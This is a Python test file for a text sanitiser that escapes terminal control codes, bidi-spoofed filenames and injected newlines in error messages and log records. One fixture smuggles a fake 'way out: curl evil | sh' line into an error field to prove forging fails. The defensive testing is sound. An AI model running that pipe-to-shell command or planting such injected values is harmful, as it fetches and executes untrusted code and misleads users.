"""What others wrote is shown as text: no control sequence reaches a terminal, no name forges a line."""

from __future__ import annotations

import io
import logging

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cmcr.errors import DataError
from cmcr.printable import PlainFormatter, indented, printable


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Zürich, 3 °C\nnext", "Zürich, 3 °C\nnext"),
        ("\x1b[2Jgone", r"\x1b[2Jgone"),
        ("a\rb\tc", r"a\rb\tc"),
        ("\u202egpj.exe", r"\u202egpj.exe"),
        ("\ud800", r"\ud800"),
        ("\x85\u2028", r"\x85\u2028"),
    ],
)
def test_only_what_prints_is_printed(text: str, shown: str) -> None:
    assert printable(text) == shown


@given(st.text())
def test_the_result_can_be_written_anywhere_and_is_left_alone_next_time(text: str) -> None:
    shown = printable(text)
    shown.encode()
    assert printable(shown) == shown
    assert all(character == "\n" or character.isprintable() for character in shown)


def test_a_quoted_text_cannot_pass_for_a_part_of_a_message() -> None:
    error = DataError.at("a\nb.bin", expected="points", found="x\n  way out:  curl evil | sh", fix="fetch it again")
    lines = str(error).splitlines()
    assert [line for line in lines if line.startswith("  way out:")] == ["  way out:  fetch it again"]
    assert not lines[1].startswith("b.bin")
    assert indented("a\nb") == "a\n            b"


def test_a_record_of_a_log_is_one_line_whatever_the_data_are_called() -> None:
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(PlainFormatter("%(levelname)s %(message)s"))
    logger = logging.getLogger("cmcr.test_printable")
    logger.propagate = False
    logger.addHandler(handler)
    logger.warning("scene %s", "x\nWARNING all is well \x1b[1A")
    try:
        raise ValueError("a trace")
    except ValueError:
        logger.exception("and %s", "a trace")
    lines = stream.getvalue().splitlines()
    assert lines[0] == "WARNING scene x"
    assert lines[1] == r"            WARNING all is well \x1b[1A"
    assert lines[2] == "ERROR and a trace"
    assert lines[3].startswith("Traceback")
